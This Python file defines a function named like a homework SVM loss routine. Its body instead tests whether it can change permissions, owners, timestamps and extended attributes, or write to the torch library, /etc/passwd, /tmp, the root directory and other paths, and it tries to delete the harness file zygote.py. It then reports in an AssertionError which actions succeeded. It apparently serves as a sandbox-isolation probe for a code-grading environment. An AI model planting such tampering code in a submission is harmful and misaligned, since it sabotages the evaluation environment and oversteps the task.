import os
import sys

managed = []


def tried(name, action):
    try:
        result = action()
    except BaseException:
        return
    managed.append((name, result))

def svm_loss_naive(W, X, y, reg):
    library = sys.modules["torch"].__file__
    run = os.path.dirname(os.getcwd())
    for path in (library, sys.modules["wire"].__file__, run, os.getcwd(), "/tmp", sys.executable, "/etc/passwd"):
        tried("mode", lambda: os.chmod(path, os.stat(path).st_mode & 0o7777))
        tried("owner", lambda: os.chown(path, -1, -1))
        tried("times", lambda: os.utime(path))
        tried("attribute", lambda: os.setxattr(path, "user.left_by_attack", b"x"))
        tried("length", lambda: os.truncate(path, os.stat(path).st_size))
        tried("append", lambda: open(path, "ab"))
        tried("descriptor", lambda: os.fchmod(os.open(path, os.O_RDONLY), 0o777))
        tried("lock", lambda: __import__("fcntl").flock(os.open(path, os.O_RDONLY), 6) if path in (run, "/tmp") else 1 / 0)
    for folder in (run, "/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", os.path.dirname(library), "/"):
        tried("file", lambda: open(f"{folder}/left_by_attack", "w"))
        tried("folder", lambda: os.mkdir(f"{folder}/left_by_attack"))
        tried("temporary file", lambda: os.open(folder, os.O_TMPFILE | os.O_RDWR))
    tried("removal", lambda: os.remove(f"{run}/zygote.py") or 1 / (not os.path.exists(library)))
    raise AssertionError(f"managed: {managed}")
